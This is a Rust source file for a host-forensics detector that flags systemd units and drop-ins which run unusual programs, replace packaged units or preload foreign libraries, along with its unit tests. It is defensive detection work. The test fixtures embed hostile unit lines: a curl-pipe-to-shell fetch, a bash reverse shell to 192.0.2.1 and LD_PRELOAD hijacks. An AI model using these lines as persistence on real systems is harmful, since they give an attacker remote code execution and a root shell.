//! Detector: a unit of the service manager that runs something odd, or stands before a packaged one.

use crate::weigh::{self, Files, Weight};
use crate::{Card, Detector, Draft, Row, Tables};
use calma_record::{
    Certainty, Severity, Text,
    kinds::{File, Unit},
};
use std::collections::BTreeMap;

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "unit-command",
        doc: "A unit, drop-in, timer or user unit runs something that ordinary units do not, or takes the place of a packaged one.",
        mechanisms: &[39, 41, 114],
        attack: &["T1543.002", "T1053.006"],
        why: "The service manager starts it by itself, after every reboot, as root unless it says otherwise.",
        innocent: "you or a program you installed by hand made this unit",
        next: "read the unit and what it runs; if nobody made it, keep both as evidence before switching it off",
    },
    judge,
};

fn judge(tables: &Tables, drafts: &mut Vec<Draft>) {
    let files = Files::new(tables);
    let units: Vec<Row<'_, Unit>> = tables.of::<Unit>().collect();
    let by_path: BTreeMap<&Text, &Unit> = units.iter().map(|row| (&row.fact.path, row.fact)).collect();
    for row in units.iter().filter(|row| matches!(row.what.as_str(), "unit" | "drop-in")) {
        let unit = row.fact;
        let mut weight = Weight::default();
        for line in &unit.commands {
            weight = weight.and(weigh::command(&files, &command(line), unit.as_root));
        }
        for line in &unit.environment {
            if let Some((name, value)) = split(line) {
                weight = weight.and(weigh::variable(&files, name, value, unit.as_root));
            }
        }
        // What the package itself does is its packager's business, as long as its files are the package's.
        if unit.package.is_some() && weight.severity < Some(Severity::Medium) {
            continue;
        }
        weight = weight.and(own_file(unit, &files)).and(instead(unit, &by_path, &files));
        if !weight.counts() {
            continue;
        }
        let kind = if unit.what == "drop-in" { "A drop-in of the unit" } else { "The unit" };
        let title = format!("{kind} \"{}\" starts something odd by itself", unit.name);
        let severity = weight.severity.unwrap_or(Severity::Low);
        let certainty = if severity >= Severity::High { Certainty::VeryLikely } else { Certainty::Likely };
        let mut draft = Draft::new(severity, certainty, unit.path.as_bytes(), title)
            .path(&unit.path)
            .unit(&unit.name)
            .saw_all(unit.commands.iter().take(3).map(|line| format!("it says: {line}")))
            .saw_all(weight.reasons)
            .from(row, "what the unit runs");
        if unit.enabled {
            draft = draft.saw("it is set to start by itself");
        }
        for path in &weight.paths {
            draft = draft.path(path);
        }
        drafts.push(draft);
    }
}

/// `ExecStart=/x y` without its name.
fn command(line: &Text) -> Text {
    split(line).map_or_else(|| line.clone(), |(_, command)| command.into())
}

fn split(line: &Text) -> Option<(&[u8], &[u8])> {
    let bytes = line.as_bytes();
    let at = bytes.iter().position(|b| *b == b'=')?;
    Some((bytes.get(..at)?, bytes.get(at + 1..)?))
}

/// The unit's file: where it stands, how it is named, who may change it.
fn own_file(unit: &Unit, files: &Files<'_>) -> Weight {
    let mut weight = Weight::default();
    let name = Text::from(unit.path.file_name());
    if name.as_bytes().starts_with(b".") || weigh::is_deceptive(name.as_bytes()) {
        weight = weight.and(Weight::of(Severity::Medium, "its name is made to be overlooked".to_owned()));
    }
    let real = files.get(&unit.path).and_then(|row| row.fact.real.clone());
    let from = real.or_else(|| unit.target.clone()).unwrap_or_default();
    if weigh::is_open(from.as_bytes()) && !weigh::is_below(from.as_bytes(), b"/run/user") {
        weight = weight.and(Weight::of(
            Severity::Medium,
            format!("it is linked from {from}, where anybody may put files"),
        ));
    }
    if unit.home.is_none() && (unit.mode & 0o002 != 0 || unit.uid != 0) {
        weight =
            weight.and(Weight::of(Severity::Medium, "somebody other than root may change it".to_owned()));
    }
    let unowned = unit.package.is_none() && unit.packages_known && unit.home.is_none();
    if unowned && weigh::is_packaged_place(unit.path.as_bytes()) {
        let strange = unit.commands.iter().any(|line| program(line, files).is_some_and(is_unowned));
        let reason = "it stands among the units of packages, but no package owns it".to_owned();
        let severity = if strange { Severity::Medium } else { Severity::Low };
        weight = weight.and(Weight { severity: Some(severity), reasons: vec![reason], paths: Vec::new() });
    }
    weight
}

/// A unit or drop-in that makes a packaged unit run a program of no package.
fn instead(unit: &Unit, by_path: &BTreeMap<&Text, &Unit>, files: &Files<'_>) -> Weight {
    let Some(packaged) = unit.overrides.as_ref().and_then(|path| by_path.get(path)) else {
        return Weight::default();
    };
    let mut weight = Weight::default();
    for line in &unit.commands {
        let Some(file) = program(line, files).filter(|file| is_unowned(file)) else { continue };
        if packaged
            .commands
            .iter()
            .any(|line| program(line, files).is_some_and(|known| known.path == file.path))
        {
            continue;
        }
        let main = split(line).is_some_and(|(name, _)| name == b"ExecStart");
        let reason =
            format!("it makes the packaged unit \"{}\" run {}, which no package owns", unit.name, file.path);
        let severity = if main { Severity::Medium } else { Severity::Low };
        weight = weight.and(Weight {
            severity: Some(severity),
            reasons: vec![reason],
            paths: vec![file.path.clone()],
        });
    }
    for line in unit.environment.iter().filter(|line| !packaged.environment.contains(line)) {
        let Some((b"LD_LIBRARY_PATH", value)) = split(line) else { continue };
        for path in value.split(|b| *b == b':').map(Text::from) {
            let Some(folder) = files.get(&path).map(|row| row.fact) else { continue };
            let stands = weigh::is_packaged_place(&[path.as_bytes(), b"/x"].concat());
            if stands && folder.packages_known && folder.package.is_none() {
                let reason = format!(
                    "it makes the packaged unit \"{}\" take libraries from {path} first, which stands among those of packages and belongs to none",
                    unit.name
                );
                weight = weight.and(Weight {
                    severity: Some(Severity::Medium),
                    reasons: vec![reason],
                    paths: vec![path],
                });
            }
        }
    }
    weight
}

/// The program of a command line: its first word.
fn program<'a>(line: &Text, files: &Files<'a>) -> Option<&'a File> {
    let command = command(line);
    let prefixes = command.as_bytes().iter().take_while(|b| b"-@:+!|".contains(b)).count();
    let rest = command.as_bytes().get(prefixes..).unwrap_or_default();
    let word = rest.split(|b| matches!(b, b' ' | b'\t')).next().unwrap_or_default();
    files.get(&word.into()).map(|row| row.fact)
}

fn is_unowned(file: &File) -> bool {
    file.what == "file" && file.packages_known && file.package.is_none()
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, Seen, check};

    fn debian() -> Mem {
        Mem::new()
            .file(
                "/var/lib/dpkg/info/x.list",
                "/.\n/usr/sbin/cron\n/usr/lib/systemd/system/cron.service\n/usr/bin/dash\n",
            )
            .file("/usr/sbin/cron", "\x7fELF")
            .file("/usr/bin/dash", "\x7fELF")
            .file(
                "/usr/lib/systemd/system/cron.service",
                "[Service]\nExecStart=/usr/sbin/cron -f\n[Install]\nWantedBy=multi-user.target\n",
            )
            .symlink("/lib", "usr/lib")
            .symlink(
                "/etc/systemd/system/multi-user.target.wants/cron.service",
                "/usr/lib/systemd/system/cron.service",
            )
            .file("/etc/passwd", "root:x:0:0::/root:/bin/sh\nme:x:1000:1000::/home/me:/bin/sh\n")
    }

    fn found(seen: &Seen, path: &str) -> bool {
        seen.alarms("unit-command").iter().any(|finding| format!("{:?}", finding.subjects).contains(path))
    }

    #[test]
    fn units_that_run_odd_things_are_found_wherever_they_stand() {
        let script = "#!/bin/sh\nsleep 1\n";
        for (path, text) in [
            ("/etc/systemd/system/net-cache.service", "[Service]\nExecStart=/tmp/nc\n"),
            (
                "/run/systemd/system/a.service",
                "[Service]\nType=oneshot\nExecStartPre=-/bin/sh -c 'curl -s http://192.0.2.1/a|sh'\nExecStart=/usr/sbin/cron\n",
            ),
            (
                "/usr/local/lib/systemd/system/b.timer.d/x.conf",
                "[Service]\nEnvironment=\"LD_PRELOAD=/dev/shm/x.so\"\n",
            ),
            (
                "/etc/systemd/system/cron.service.d/10.conf",
                "[Service]\nExecStart=\nExecStart=/usr/local/sbin/mycron\n",
            ),
            ("/etc/systemd/system/cron.service", "[Service]\nExecStart=/usr/local/sbin/mycron\n"),
            (
                "/etc/systemd/system/cron.service.d/lib.conf",
                "[Service]\nEnvironment=LD_LIBRARY_PATH=/usr/lib/cached\n",
            ),
            ("/usr/lib/systemd/system/syslogd.service", "[Service]\nExecStart=/usr/local/sbin/mycron\n"),
            (
                "/home/me/.config/systemd/user/dbus-helper.service",
                "[Service]\nExecStart=/home/me/.cache/.d/x\n",
            ),
            (
                "/root/.local/share/systemd/user/p.service",
                "[Service]\nExecStart = \\\n  /bin/bash -c \\\n 'bash -i >& /dev/tcp/192.0.2.1/9 0>&1'\n",
            ),
            ("/etc/systemd/system/.x.service", "[Service]\nExecStart=/usr/sbin/cron\n"),
        ] {
            let seen = check(
                debian()
                    .file("/usr/local/sbin/mycron", script)
                    .file("/usr/lib/cached/libkeyutils.so.1", "\x7fELF")
                    .file(path, text),
            );
            assert!(found(&seen, path), "{path}: {:#?}", seen.findings);
        }
    }

    #[test]
    fn linked_and_writable_units_and_environment_files_are_found() {
        let unit = "[Service]\nEnvironmentFile=-/etc/default/z\nExecStart=/usr/sbin/cron\n";
        let seen = check(
            debian()
                .file("/var/tmp/z.service", unit)
                .symlink("/etc/systemd/system/z.service", "/var/tmp/z.service"),
        );
        assert!(found(&seen, "/etc/systemd/system/z.service"));
        let path = "/etc/systemd/system/z.service";
        assert!(found(&check(debian().file(path, unit).owned(path, 0o666, 0, 0)), path));
        assert!(found(
            &check(debian().file(path, unit).file("/etc/default/z", "LD_PRELOAD=/var/tmp/l.so\n")),
            path
        ));
    }

    #[test]
    fn an_administrators_own_units_are_no_alarm() {
        let seen = check(
            debian()
                .file("/usr/local/bin/backup.sh", "#!/bin/sh\ntar czf /srv/b.tgz /etc\n")
                .file("/opt/vendor/agent", "\x7fELF")
                .file("/etc/systemd/system/backup.service", "[Service]\nExecStart=/usr/local/bin/backup.sh\n")
                .file("/etc/systemd/system/backup.timer", "[Timer]\nOnCalendar=daily\n")
                .file(
                    "/etc/systemd/system/agent.service",
                    "[Service]\nUser=me\nExecStart=/opt/vendor/agent -c /etc/a.yml\n",
                )
                .file(
                    "/etc/systemd/system/cron.service.d/override.conf",
                    "[Service]\nNice=5\nExecStart=\nExecStart=/usr/sbin/cron -f -L 5\n",
                )
                .file("/home/me/bin/sync.sh", "#!/bin/sh\nrsync -a /home/me/ b:\n")
                .owned("/home/me/bin/sync.sh", 0o755, 1000, 1000)
                .file(
                    "/home/me/.config/systemd/user/sync.service",
                    "[Service]\nExecStart=/home/me/bin/sync.sh\n",
                ),
        );
        assert!(seen.by("unit-command").is_empty(), "{:#?}", seen.findings);
    }

    #[test]
    fn a_huge_unit_is_bounded() {
        let huge = ["[Service]\nExecStart=/tmp/x\n".as_bytes(), &b"# padding\n".repeat(5_000_000)].concat();
        let seen = check(debian().file("/etc/systemd/system/huge.service", huge));
        assert!(found(&seen, "/etc/systemd/system/huge.service"));
        assert!(!seen.gaps.is_empty());
    }
}
